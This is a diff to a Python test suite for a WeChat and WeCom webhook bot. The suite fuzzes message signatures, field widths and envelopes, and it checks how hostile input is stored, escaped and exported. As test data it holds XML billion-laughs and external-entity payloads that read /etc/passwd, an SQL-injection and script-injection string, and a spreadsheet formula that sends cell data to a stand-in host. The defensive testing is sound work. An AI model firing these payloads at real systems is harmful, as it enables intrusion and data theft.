@@ -9,22 +9,28 @@ forged signatures. Requests are signed and sealed by this file and WeRoBot, neve
 from __future__ import annotations
 
 import base64
+import csv
 import datetime as dt
 import hashlib
 import itertools
 import os
 import secrets
 import struct
+from io import BytesIO, StringIO
 from urllib.parse import urlencode
 
 import pytest
 from cryptography.hazmat.primitives.ciphers import Cipher, algorithms, modes
-from hypothesis import HealthCheck, given, settings
+from hypothesis import HealthCheck, assume, given, settings
 from hypothesis import strategies as st
+from openpyxl import load_workbook
 from sqlalchemy import func, select
 
-from bot.ledger.tables import InboundMessage, SeenSignature
+from bot.ledger.export import HEADERS, consultations_for, ledger_rows, to_csv, to_xlsx
+from bot.ledger.tables import Consultation, InboundMessage, SeenSignature, Village
 from tests.conftest import AES_KEY, APPID, TOKEN
+from tests.test_bureau_support import logged_in, make_user
+from tests.test_console_support import CHENGGUAN_HEDONG, PERSONAL, WANG, ask, login
 from tests.wechat_client import ACCOUNT, cdata, signature, tag
 
 SUCCESS = b"success"
@@ -70,7 +76,7 @@ class Poster:
 
     def wechat_plain(self, body: bytes, sig: str | None = None, ts: str | None = None, nonce: str | None = None):
         ts, nonce = ts or self.ts(), nonce or str(secrets.randbelow(10**9))
-        query = {"signature": sig or signature(TOKEN, ts, nonce), "timestamp": ts, "nonce": nonce}
+        query = {"signature": signature(TOKEN, ts, nonce) if sig is None else sig, "timestamp": ts, "nonce": nonce}
         return self.client.post("/wechat?" + urlencode(query), data=body, content_type="text/xml")
 
     def wechat_sealed(self, payload: bytes, good_msg_signature: bool = True, blob: str | None = None):
@@ -104,7 +110,11 @@ def post(client, clock) -> Poster:
 @pytest.fixture
 def with_wecom(services):
     services.settings = services.settings.with_overrides(
-        wecom_corp_id=CORP, wecom_agent_id=1000002, wecom_secret="secret", wecom_token=WECOM_TOKEN, wecom_aes_key=WECOM_AES
+        wecom_corp_id=CORP,
+        wecom_agent_id=1000002,
+        wecom_secret="secret",
+        wecom_token=WECOM_TOKEN,
+        wecom_aes_key=WECOM_AES,
     )
     return services
 
@@ -131,7 +141,7 @@ def assert_answered_or_success(services, resp, quiet: tuple[bytes, ...] = (SUCCE
     if body in quiet:
         return
     with services.sessions() as session:
-        assert session.scalar(select(func.count()).where(InboundMessage.response_body == body)) == 1
+        assert session.scalar(select(func.count()).where(InboundMessage.response_body == body)) >= 1
 
 
 def assert_dropped(services, resp, before: int, quiet: bytes = SUCCESS) -> None:
@@ -149,6 +159,8 @@ leaf = st.one_of(
     st.text(max_size=20).map(cdata),
     st.text(max_size=20),
     st.sampled_from(SNIPPETS),
+    st.text(min_size=30, max_size=300),  # wider than the columns (PostgreSQL refuses those)
+    st.integers(0, 10**40).map(str),
 )
 element = st.recursive(
     leaf,
@@ -183,9 +195,10 @@ def test_any_sealed_payload_with_valid_signatures_answers_200(services, post, pa
 @FUZZ
 @given(body=st.one_of(st.binary(max_size=3000), xmlish_bytes), sig=st.text(max_size=50))
 def test_without_a_valid_signature_nothing_is_stored(services, post, body, sig):
-    before = stored(services)
     ts = post.ts()
-    resp = post.wechat_plain(body, sig=sig if sig.strip().lower() != signature(TOKEN, ts, "1") else "x", ts=ts, nonce="1")
+    assume(sig.strip().lower() != signature(TOKEN, ts, "1"))
+    before = stored(services)
+    resp = post.wechat_plain(body, sig=sig, ts=ts, nonce="1")
     assert_no_crash(resp)
     assert resp.status_code == 403
     assert stored(services) == before
@@ -199,6 +212,36 @@ def test_sealed_payload_with_a_forged_msg_signature_stores_nothing(services, pos
     assert_no_crash(resp)
     assert resp.status_code == 403
     assert stored(services) == before
+
+
+def _fields(msg_type: str, sender: str = "oX", **fields: str) -> str:
+    parts = "".join(f"<{k}>{cdata(v)}</{k}>" for k, v in fields.items())
+    return (
+        f"<xml><ToUserName>{cdata(ACCOUNT)}</ToUserName><FromUserName>{cdata(sender)}"
+        f"</FromUserName><CreateTime>1763604000</CreateTime><MsgType>{cdata(msg_type)}</MsgType>{parts}</xml>"
+    )
+
+
+printable = st.characters(exclude_categories=("Cs", "Cc"))  # control characters have their own tests
+value = st.one_of(
+    st.text(printable, max_size=12),
+    st.text(printable, min_size=25, max_size=300).filter(lambda v: "]]>" not in v),
+    st.integers(0, 10**40).map(str),
+)
+
+
+@FUZZ
+@given(
+    sender=value,
+    msg_type=st.one_of(st.sampled_from(["text", "event", "image", "voice", "location", "link"]), value),
+    msg_id=st.one_of(st.integers(0, 10**40).map(str), value),
+    fields=st.dictionaries(st.sampled_from(["Content", "Event", "EventKey", "MediaId", "Recognition"]), value),
+    sealed=st.booleans(),
+)
+def test_any_field_values_in_a_well_formed_message_answer_200(services, post, sender, msg_type, msg_id, fields, sealed):
+    """Values of any length and kind, including wider than the database columns (PostgreSQL refuses those)."""
+    body = _fields(msg_type, sender=sender, MsgId=msg_id, **fields).encode()
+    assert_answered_or_success(services, post.wechat_sealed(body) if sealed else post.wechat_plain(body))
 
 
 @FUZZ
@@ -298,7 +341,7 @@ def test_wecom_garbage_envelope_stores_nothing(with_wecom, post, body, good):
     before = stored(with_wecom)
     resp = post.wecom(raw_body=body or b" ", good=good)
     assert_no_crash(resp)
-    assert resp.status_code in (200, 403) and resp.get_data() in (b"", b"bad msg_signature")
+    assert resp.status_code == 403 or (resp.status_code, resp.get_data()) == (200, b"")
     assert stored(with_wecom) == before
 
 
@@ -316,7 +359,7 @@ def test_wecom_truncated_or_duplicated_message_is_dropped(with_wecom, post, data
 
 
 # ---- explicit cases --------------------------------------------------------------------------------------
-LAUGHS = "".join(f'<!ENTITY lol{i} "{("&lol%d;" % (i - 1)) * 10}">' for i in range(1, 9))
+LAUGHS = "".join(f'<!ENTITY lol{i} "{f"&lol{i - 1};" * 10}">' for i in range(1, 9))
 HOSTILE_DTDS = {
     "billion laughs, 8 levels": f'<?xml version="1.0"?><!DOCTYPE xml [<!ENTITY lol0 "lol">{LAUGHS}]>',
     "external entity": '<!DOCTYPE xml [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>',
@@ -375,12 +418,43 @@ def test_duplicate_tags_are_dropped(services, post, extra):
     assert_dropped(services, post.wechat_plain(body), 0)
 
 
-def test_duplicate_encrypt_in_the_envelope_is_dropped(services, post):
+def test_duplicate_encrypt_in_the_envelope_is_dropped(services, client, clock):
+    ts, nonce = str(int(clock.now().timestamp())), "31"
     blob = seal(text_xml(fresh_sender(), "你好").encode(), AES_KEY, APPID)
-    doubled = f"{blob}</Encrypt><Encrypt>{blob}"
-    resp = post.wechat_sealed(b"", blob=doubled)
-    assert_no_crash(resp)
-    assert resp.status_code in (200, 403) and stored(services) == 0
+    query = {
+        "signature": signature(TOKEN, ts, nonce),
+        "timestamp": ts,
+        "nonce": nonce,
+        "encrypt_type": "aes",
+        "msg_signature": signature(TOKEN, ts, nonce, blob),
+    }
+    envelope = f"<xml><Encrypt>{cdata(blob)}</Encrypt><Encrypt>{cdata(blob)}</Encrypt></xml>"
+    assert_dropped(services, client.post("/wechat?" + urlencode(query), data=envelope.encode()), 0)
+
+
+TOO_WIDE = {
+    "openid of 65 characters": text_xml("o" * 65, "你好"),
+    "MsgId of 33 digits": text_xml("oX", "你好", msg_id=10**32),
+    "MsgId in other digits": text_xml("oX", "你好").replace("<MsgId>", "<MsgId>١٢٣"),
+    "MsgType of 33 characters": _fields("t" * 33, MsgId="5"),
+    "Event of 65 characters": _fields("event", Event="E" * 65),
+    "EventKey of 201 characters": _fields("event", Event="CLICK", EventKey="k" * 201),
+    "MediaId of 201 characters": _fields("image", MediaId="m" * 201, MsgId="6"),
+}
+
+
+@pytest.mark.parametrize("body", TOO_WIDE.values(), ids=TOO_WIDE.keys())
+def test_fields_wider_than_their_columns_are_dropped(services, post, body):
+    """On PostgreSQL such a row cannot be stored: without this check the webhook answered 503, WeChat retried."""
+    assert_dropped(services, post.wechat_plain(body.encode()), 0)
+
+
+def test_event_dedupe_key_fits_its_column_however_long_the_parts(services, post):
+    body = _fields("event", Event="E" * 64, EventKey="k" * 200, sender="o" * 64)
+    assert_answered_or_success(services, post.wechat_plain(body.encode()))
+    with services.sessions() as session:
+        key = session.scalar(select(InboundMessage.dedupe_key))
+    assert len(key) <= 200 and key.startswith("official:evt:#")
 
 
 def test_oversized_sealed_body_is_413(services, post):
@@ -484,5 +558,52 @@ def test_forged_signatures_are_403_and_store_nothing(services, client, clock, ca
 def test_upper_case_hex_signature_is_the_same_signature(services, post, roster):
     """Not a forgery: WeChat sends lower-case hex, the comparison is case-insensitive and constant-time."""
     ts = post.ts()
-    resp = post.wechat_plain(text_xml(fresh_sender(), "你好").encode(), sig=signature(TOKEN, ts, "7").upper(), ts=ts, nonce="7")
+    resp = post.wechat_plain(
+        text_xml(fresh_sender(), "你好").encode(), sig=signature(TOKEN, ts, "7").upper(), ts=ts, nonce="7"
+    )
     assert resp.status_code == 200 and tag(resp.get_data(as_text=True), "MsgType") == "text"
+
+
+# ---- SQL-looking and script-looking text: stored verbatim, shown escaped, exported as text ---------------
+HOSTILE_TEXT = (
+    PERSONAL + "'); DROP TABLE consultations; -- \" OR 1=1 <script>alert('x')</script><img src=x onerror=alert(1)>"
+)
+FORMULA_TEXT = '=HYPERLINK("http://x.invalid/?q="&A1,"点我查看")' + PERSONAL
+
+
+def test_hostile_text_is_stored_verbatim(wechat, roster):
+    c = ask(wechat, roster, fresh_sender(), CHENGGUAN_HEDONG, HOSTILE_TEXT)
+    assert c.question == HOSTILE_TEXT
+    with roster.sessions() as session:
+        assert session.scalar(select(InboundMessage.text).where(InboundMessage.msg_type == "text")) == HOSTILE_TEXT
+        assert session.scalar(select(func.count()).select_from(Consultation)) == 1  # the table is still there
+
+
+def test_adviser_console_and_bureau_dashboard_show_hostile_text_escaped(wechat, roster, client, app):
+    c = ask(wechat, roster, fresh_sender(), CHENGGUAN_HEDONG, HOSTILE_TEXT)
+    login(client, roster, WANG)
+    make_user(roster, "county_clerk")
+    bureau = app.test_client()
+    logged_in(bureau, "county_clerk")
+    for page in (client.get(f"/adviser/consultations/{c.id}"), bureau.get(f"/bureau/consultations/{c.id}")):
+        html = page.get_data(as_text=True)
+        assert page.status_code == 200
+        assert "&lt;script&gt;alert(" in html and "&lt;img src=x onerror=alert(1)&gt;" in html
+        assert "<script>alert" not in html and "<img src=x" not in html
+        assert "DROP TABLE consultations" in html
+
+
+def test_ledger_export_keeps_hostile_text_as_plain_text(wechat, roster):
+    ask(wechat, roster, fresh_sender(), CHENGGUAN_HEDONG, HOSTILE_TEXT)
+    ask(wechat, roster, fresh_sender(), CHENGGUAN_HEDONG, FORMULA_TEXT)
+    day = dt.date(2026, 11, 20)
+    with roster.sessions() as session:
+        village = session.scalar(select(Village).where(Village.code == CHENGGUAN_HEDONG))
+        rows = ledger_rows(consultations_for(session, village, day, day))
+    question = HEADERS.index("问题")
+    sheet = load_workbook(BytesIO(to_xlsx(rows, "河东村"))).active
+    cells = [row[question] for row in sheet.iter_rows(min_row=3)]
+    assert [cell.value for cell in cells] == [HOSTILE_TEXT, FORMULA_TEXT]
+    assert [cell.data_type for cell in cells] == ["s", "s"]  # a formula would be "f" and run in Excel/WPS
+    exported = list(csv.reader(StringIO(to_csv(rows))))[1:]
+    assert [r[question] for r in exported] == [HOSTILE_TEXT, "'" + FORMULA_TEXT]  # OWASP: a leading apostrophe
